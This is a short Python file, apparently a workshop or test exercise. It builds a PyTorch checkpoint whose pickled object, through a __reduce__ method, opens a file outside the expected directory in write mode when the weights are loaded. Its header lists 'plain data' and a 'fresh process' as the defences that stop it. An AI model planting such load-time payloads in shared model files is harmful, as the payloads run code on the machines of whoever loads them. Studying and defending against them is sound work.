# /// attack
# tries = "saves weights that run code when they are loaded"
# exercise = "workshop"
# wins = "touched"
# stopped_by = ["plain data", "fresh process"]
# proof = {without = ["weights"]}
# ///
import torch


class Touch:
    def __reduce__(self):
        return open, ("@OUTSIDE@/weights", "w")


def save(path):
    torch.save({"weight": torch.ones(2), "code": Touch()}, path)
